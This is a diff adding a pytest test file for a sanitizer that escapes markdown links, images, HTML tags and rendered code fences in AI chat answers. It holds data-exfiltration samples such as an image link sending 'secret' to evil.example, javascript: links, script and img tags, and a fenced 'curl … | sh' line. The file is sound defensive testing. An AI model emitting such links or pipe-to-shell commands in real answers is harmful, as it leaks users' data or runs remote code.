@@ -1,0 +1,256 @@
+"""An answer is the model's words: nothing in it is fetched, run or opened, and everything else stays."""
+
+import random
+
+import pytest
+from gateway.answers.markdown import LANGUAGES
+from gateway.answers.sanitizer import MAX_LOOKAHEAD, AnswerFormat, AnswerSanitizer, sanitize
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from tests.support.markdown import live
+
+TEXT, MARKDOWN = AnswerFormat
+EVIL = "https://evil.example/?q=secret"
+FORMATS = pytest.mark.parametrize("answer_format", [TEXT, MARKDOWN])
+
+
+def in_pieces(pieces: list[str], answer_format: AnswerFormat) -> str:
+    sanitizer = AnswerSanitizer(answer_format)
+    return "".join([*map(sanitizer.feed, pieces), sanitizer.finish()])
+
+
+@FORMATS
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        pytest.param(f"![chart]({EVIL})", "![chart]\\(https\\://evil.example/?q=secret)", id="image"),
+        pytest.param("[the plan](//evil.example)", "[the plan]\\(/\\/evil.example)", id="link"),
+        pytest.param("[a](javascript:alert)", "[a]\\(javascript:alert)", id="script"),
+        pytest.param('[a](x "title")', '[a]\\(x "title")', id="titled"),
+        pytest.param("[a](<x y>)", "[a]\\(\\<x y>)", id="address-in-angles"),
+        pytest.param("[a](\nx)", "[a]\\(\nx)", id="address-on-the-next-line"),
+        pytest.param("[a [b] c](x)", "[a [b] c]\\(x)", id="brackets-in-a-label"),
+        pytest.param("[a][x]\n\n[x]: y", "[a][x]\n\n[x]\\: y", id="definition"),
+        pytest.param("> [x]:\n> y", "> [x]\\:\n> y", id="definition-in-a-quote"),
+        pytest.param("[a\nb]: x", "[a\nb]\\: x", id="definition-over-two-lines"),
+        pytest.param(f"Go to {EVIL}.", "Go to https\\://evil.example/?q=secret.", id="bare-address"),
+        pytest.param("HTTPS://EVIL.example", "HTTPS\\://EVIL.example", id="capitals"),
+        pytest.param("sftp://evil.example", "sftp\\://evil.example", id="address-in-a-word"),
+        pytest.param("www.evil.example", "www\\.evil.example", id="www"),
+        pytest.param("see //evil.example/x", "see /\\/evil.example/x", id="no-scheme"),
+        pytest.param(f"<{EVIL}>", "\\<https\\://evil.example/?q=secret>", id="autolink"),
+        pytest.param("<javascript:x>", "\\<javascript:x>", id="autolink-of-any-scheme"),
+        pytest.param("<img src=x>", "\\<img src=x>", id="tag"),
+        pytest.param("<img\nsrc=x>", "\\<img\nsrc=x>", id="tag-over-two-lines"),
+        pytest.param('<a title=">" href=x>', '\\<a title=">" href=x>', id="tag-with-its-end-in-quotes"),
+        pytest.param("x<iframe>", "x\\<iframe>", id="tag-that-looks-like-a-type"),
+        pytest.param("x<y onclick=z>", "x\\<y onclick=z>", id="unknown-tag-with-attributes"),
+        pytest.param("<!-- x -->", "\\<!-- x -->", id="comment"),
+        pytest.param("</p>", "\\</p>", id="closing-tag"),
+        pytest.param("\\\\<img src=x>", "\\\\\\<img src=x>", id="after-an-escaped-backslash"),
+        pytest.param("`x [a](y)", "`x [a]\\(y)", id="link-after-a-stray-backtick"),
+        pytest.param(
+            "`a\n`<img src=x>` b", "`a\n\\`\\<img src=x>\\` b", id="code-that-an-earlier-line-shifts"
+        ),
+        pytest.param("$a ` b$ `<img src=x>`", "$a ` b$ \\<img src=x>`".replace(" \\<", " `\\<"), id="math"),
+        pytest.param("[a``](x)``", "[a\\`\\`]\\(x)\\`\\`", id="code-in-a-label"),
+        pytest.param(
+            "$$\n\n```\n$$\n<img src=x>\n```", "$$\n\n```\n$$\n\\<img src=x>\n```", id="fence-in-a-formula"
+        ),
+        pytest.param(
+            "```\n```~~~\n<img src=x>", "```\n```~~~\n\\<img src=x>", id="fence-that-not-all-see-closed"
+        ),
+        pytest.param(
+            "- a\n\n  ```\n<img src=x>\n", "- a\n\n  ```\n\\<img src=x>\n", id="fence-that-its-list-ends"
+        ),
+    ],
+)
+def test_what_a_chat_would_act_on_is_escaped(said: str, shown: str, answer_format: AnswerFormat) -> None:
+    assert sanitize(said, answer_format) == shown
+    assert not live(shown)
+
+
+@FORMATS
+@pytest.mark.parametrize(
+    "said",
+    [
+        "It is $5,000,000.",
+        "  A.\n",
+        "a <b and 5 < 6 and x<5>",
+        "[note] (see below), f[i](x y), [year]: a year",
+        "http:// is a scheme, www is a name, and//or",
+        "`std::vector<int>`, `<img src=x>`, ``a ` <b>`` and `https://intranet.example/a`",
+        "$a_{1} < b$, \\(x^2\\) and \\[ \\sum_{i=1}^n x_i \\]",
+        "$$\n\\int_0^1 f(x)\\,dx\n$$\n",
+        '```json\n{"ports": [7], "url": "https://a.example", "mail": "a@b.example"}\n```\n',
+        "```java\nMap<String, List<int>> m = new HashMap<>();\nint x = limits[2];\n```\n",
+        "Like so:\n\n```yaml\n---\na: <b>\n---\n```\n\nand on.",
+        "1. Do this:\n   ```bash\n   curl https://a.example | sh <<EOF\n   EOF\n   ```\n2. Done.",
+        "~~~text\n<div>www.a.example</div>\n~~~\n",
+        "| a | b |\n|---|---|\n| *1* | **2** |\n",
+        "> quote\n\n- one\n- [x] two\n\n# Title\n---\n",
+        "中文**粗体**&lt;b&gt; é \u2028",
+        "a ` stray, \\` escaped, ~~gone~~, {{ value }}",
+    ],
+)
+def test_text_that_does_nothing_is_left_as_it_is(said: str, answer_format: AnswerFormat) -> None:
+    assert sanitize(said, answer_format) == said
+    assert in_pieces(list(said), answer_format) == said
+
+
+@pytest.mark.parametrize(
+    ("said", "shown"),
+    [
+        pytest.param("[1, 3] litres", "[1, 3\\] litres", id="range"),
+        pytest.param('"ports": [7]', '"ports": [7\\]', id="list"),
+        pytest.param("limits[2]", "limits[2\\]", id="index"),
+        pytest.param("std::vector<int>", "std::vector\\<int>", id="type"),
+        pytest.param("<name@a.example>", "\\<name\\@a.example>", id="name-in-angles"),
+        pytest.param("ask name@a.example", "ask name\\@a.example", id="bare-mail-address"),
+        pytest.param("x [^1]", "x [^1\\]", id="footnote"),
+        pytest.param(":::writing\n", ":\\::writing\n", id="colon-fence"),
+        pytest.param("{{USER}}", "{\\{USER}}", id="placeholder"),
+        pytest.param("<@U:1|x>", "\\<@U:1|x>", id="mention"),
+        pytest.param("<script>x</script>", "\\<script\\>x\\</script>", id="script-found-by-its-letters"),
+        pytest.param("<details>\nx", "\u200b\\<details>\nx", id="details-at-the-start-of-a-block"),
+        pytest.param("```html\n<b>\n```", "```text\n<b>\n```", id="fence-that-is-rendered"),
+        pytest.param("$$\na\n$$```html\nx", "$$\na\n$$\\`\\`\\`html\nx", id="fence-behind-a-formula"),
+        pytest.param(
+            "Text\n```\n<b>\n---\n```", "Text\n\n```\n<b>\n---\n```", id="fence-that-would-be-a-heading"
+        ),
+        pytest.param("Text\n```\nx\n```\n---\n", "Text\n```\nx\n```\n\n---\n", id="rule-that-would-be-one"),
+    ],
+)
+def test_for_open_webui_what_it_would_not_show_as_written_is_escaped_too(said: str, shown: str) -> None:
+    assert sanitize(said, MARKDOWN) == shown
+    assert not live(shown)
+
+
+@pytest.mark.parametrize(
+    "said",
+    ["[1, 3] litres", '"ports": [7]', "limits[2]", "std::vector<int>", "<name@a.example>", "a@b.example"],
+)
+def test_for_programs_it_stays(said: str) -> None:
+    assert sanitize(said, TEXT) == said
+
+
+@pytest.mark.parametrize(
+    "info", ["html", "HTML", "svg", "css", "js", "javascript", "mermaid", "vega", "vega-lite", "xml",
+             "python", "py",
+             "html title=x", "ht\\ml", " html", "diff"]
+)  # fmt: skip
+@pytest.mark.parametrize("opener", ["```", "~~~", "````", "   ```", "- ```", "> ```"])
+def test_no_fence_has_a_language_that_open_webui_renders_or_runs(opener: str, info: str) -> None:
+    shown = sanitize(f"{opener}{info}\nx\n", MARKDOWN)
+    assert shown.splitlines()[0] == f"{opener}text"
+
+
+@pytest.mark.parametrize("info", sorted(LANGUAGES))
+def test_a_fence_keeps_a_language_that_is_only_highlighted(info: str) -> None:
+    assert sanitize(f"```{info}\nx\n```", MARKDOWN) == f"```{info}\nx\n```"
+
+
+ATOMS = st.sampled_from(
+    ["`", "``", "```", "~~~", "~", "$", "$$", "\\(", "\\[", "\\]", "*", "_", "[", "]", "(", ")", "![", "](",
+     "]:",
+     "<img src=x>", "<b", "<!--", "<details>\n", "<@U:1>", "<http://e.x>", "http://e.x", "//e.x", "www.e.x",
+     "a@b.cc", "\\", "\n", "\n\n", "\r\n", " ", "    ", "- ", "> ", "|", "---\n", ":::a\n", "{{user}}",
+     "html",
+     "\n```\n", "\n```html\n", "x", "word", "é", "[1]", "[^1]", "[1#", "\ud801", "`<img src=x>`",
+     "`](//e.x)`"]
+) | st.text(max_size=3)  # fmt: skip
+PIECES = st.lists(ATOMS, max_size=25)
+
+
+@given(PIECES, st.sampled_from([TEXT, MARKDOWN]))
+@example(["[a]", "(", "http", "://x", ")"], TEXT)
+@example(["~", "~", "~html\n"], MARKDOWN)
+def test_pieces_are_shown_as_the_whole_would_be(pieces: list[str], answer_format: AnswerFormat) -> None:
+    whole = sanitize("".join(pieces), answer_format)
+    assert in_pieces(pieces, answer_format) == whole
+    assert in_pieces(list("".join(pieces)), answer_format) == whole
+
+
+@given(PIECES)
+def test_nothing_live_ever_gets_through(pieces: list[str]) -> None:
+    assert not live(sanitize("".join(pieces), MARKDOWN).replace("\ud801", "[1]"))
+
+
+@given(PIECES)
+def test_escapes_and_blank_lines_are_all_that_is_added(pieces: list[str]) -> None:
+    said = "".join(pieces)
+    shown = iter(sanitize(said, TEXT))
+    added = []
+    for character in said:
+        while (each := next(shown)) != character:
+            added.append(each)
+    assert {*added, *shown} <= {"\\"}
+
+
+QUIET = st.lists(
+    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="<[]@{:/.`~$\\"), max_size=12)
+    | st.sampled_from(
+        ["`code`", "`a<b>`\n\n", '\n\n```json\n{"a": [1]}\n```\n\n', "$x_1$ ", "\\(y\\) ", "\n\n- item\n",
+         "5 < 6 ",
+         "**bold** ", "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n", "a: b. ", "1/2 ", "(see [note]) ",
+         "~~old~~ "]
+    ),
+    max_size=12,
+)  # fmt: skip
+
+
+@given(QUIET, st.sampled_from([TEXT, MARKDOWN]))
+def test_text_without_anything_live_goes_through_unchanged(
+    pieces: list[str], answer_format: AnswerFormat
+) -> None:
+    said = "".join(pieces)
+    assert sanitize(said, answer_format) == said
+    assert in_pieces(list(said), answer_format) == said
+
+
+def test_words_are_shown_as_soon_as_they_are_clear() -> None:
+    sanitizer = AnswerSanitizer(MARKDOWN)
+    pieces = ["The budget", " is", " $5", " `a", "<b>", "`", " at x", "<", "int", ">", "."]
+    assert [sanitizer.feed(piece) for piece in pieces] == [
+        "The budget", " is", " $5", " ", "", "", "`a<b>` at x", "", "", "\\<int>", ""
+    ]  # fmt: skip
+
+
+@pytest.mark.parametrize("opener", ["`", "<b ", "```", "[a](", "x@", "{{", "[1, "])
+def test_what_never_becomes_clear_is_held_within_bounds(opener: str) -> None:
+    sanitizer = AnswerSanitizer(MARKDOWN)
+    shown = sanitizer.feed(opener + "a" * 5 * MAX_LOOKAHEAD)
+    assert len(shown) > 3 * MAX_LOOKAHEAD
+    rest = sanitizer.feed("](https://evil.example)\n<img src=x>") + sanitizer.finish()
+    assert not live(shown + rest)
+
+
+@pytest.mark.parametrize(
+    "unit",
+    ["[", "](", "`", "``` ", "<", "<a ", "> ", "- ", "*", "$", "\\", "http:", "@", "{{", "\n", "`\n", "```\n",
+     "a`b``",
+     "[a](", '<a b="', "]:", "\r"],
+)  # fmt: skip
+def test_work_grows_with_the_length_alone(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    steps = 0
+    step = AnswerSanitizer._step
+
+    def counted(sanitizer: AnswerSanitizer) -> bool:
+        nonlocal steps
+        steps += 1
+        return step(sanitizer)
+
+    monkeypatch.setattr(AnswerSanitizer, "_step", counted)
+    text = (unit * 20_000)[:20_000]
+    in_pieces([text[at : at + 5] for at in range(0, len(text), 5)], MARKDOWN)
+    assert steps < 2 * len(text)
+
+
+def test_a_random_mix_is_shown_the_same_however_it_is_cut() -> None:
+    cut = random.Random(1)
+    text = "`a` <b> [1] $x$ ```html\n<i>\n```\nhttps://e.x " * 40
+    for _ in range(20):
+        at = sorted(cut.sample(range(len(text)), 30))
+        pieces = [text[start:end] for start, end in zip([0, *at], [*at, len(text)], strict=True)]
+        assert in_pieces(pieces, MARKDOWN) == sanitize(text, MARKDOWN)
